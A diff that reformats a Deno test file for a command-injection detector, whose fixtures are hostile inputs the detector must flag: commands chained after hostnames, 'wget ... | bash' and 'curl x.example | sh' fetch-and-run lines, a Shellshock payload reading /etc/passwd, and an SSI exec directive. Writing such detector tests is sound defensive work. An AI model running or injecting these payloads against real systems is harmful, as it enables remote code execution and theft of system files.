@@ -1,10 +1,15 @@
 import assert from "node:assert/strict";
-import { type CommandInjectionOptions, commandInjectionDetector } from "./command_injection.ts";
+import { commandInjectionDetector, type CommandInjectionOptions } from "./command_injection.ts";
 import type { FieldContext } from "../types.ts";
 
 const AUTO: CommandInjectionOptions = { strict_keys: [], mode: "auto" };
-const at = (key: string, stage: FieldContext["stage"] = "input"): FieldContext => ({ stage, path: `$.${key}`, key });
-const scan = (key: string, value: string, opts = AUTO) => commandInjectionDetector.scan(value, at(key), opts);
+const at = (key: string, stage: FieldContext["stage"] = "input"): FieldContext => ({
+  stage,
+  path: `$.${key}`,
+  key,
+});
+const scan = (key: string, value: string, opts = AUTO) =>
+  commandInjectionDetector.scan(value, at(key), opts);
 
 const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
   ["host", "example.com; cat /etc/passwd", "chained_command"],
@@ -38,7 +43,7 @@ const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
   ["body", "() { :;}; /bin/bash -c 'cat /etc/passwd'", "reverse_shell"],
   ["content", "a && wget http://x.example/m -O- | bash", "chained_command"],
   ["description", "done; whoami", "chained_command"],
-  ["host", "<!--#exec cmd=\"id\"-->", "ssi_exec"],
+  ["host", '<!--#exec cmd="id"-->', "ssi_exec"],
   ["filename", "system('id')", "code_execution"],
   ["filename", "cat /etc/passwd", "command_as_value"],
   ["package", "lodash; curl x.example | sh", "chained_command"],
@@ -93,8 +98,14 @@ Deno.test("commandInjectionDetector.scan() passes prose, SQL, markdown and plain
 
 Deno.test("commandInjectionDetector.scan() is strict for strict_keys and in strict mode", () => {
   assert.deepEqual(scan("note", "a.txt; ls"), []);
-  assert.equal(scan("note", "a.txt; ls", { strict_keys: ["note"], mode: "auto" })[0].kind, "chained_command");
-  assert.equal(scan("note", "a.txt; ls", { strict_keys: [], mode: "strict" })[0].kind, "chained_command");
+  assert.equal(
+    scan("note", "a.txt; ls", { strict_keys: ["note"], mode: "auto" })[0].kind,
+    "chained_command",
+  );
+  assert.equal(
+    scan("note", "a.txt; ls", { strict_keys: [], mode: "strict" })[0].kind,
+    "chained_command",
+  );
 });
 
 Deno.test("commandInjectionDetector.scan() in lenient mode and on output only reports strong constructs", () => {
@@ -109,11 +120,25 @@ Deno.test("commandInjectionDetector.scan() gives spans and actionable reasons", 
   const [f] = scan("message", text);
   assert.equal(text.slice(f.start, f.end), "; rm");
   assert.equal(f.severity, "critical");
-  assert.match(scan("host", "a.com;id")[0].reason, /^Argument "host" chains another command \("id"\)/);
+  assert.match(
+    scan("host", "a.com;id")[0].reason,
+    /^Argument "host" chains another command \("id"\)/,
+  );
 });
 
 Deno.test("commandInjectionDetector.scan() never throws and stays fast", () => {
-  for (const n of ["$(", "`", "${", "%", "&#", "\\n".repeat(5000), ";".repeat(50000), "$(".repeat(20000)]) {
+  for (
+    const n of [
+      "$(",
+      "`",
+      "${",
+      "%",
+      "&#",
+      "\\n".repeat(5000),
+      ";".repeat(50000),
+      "$(".repeat(20000),
+    ]
+  ) {
     scan("host", n);
     scan("text", n);
   }
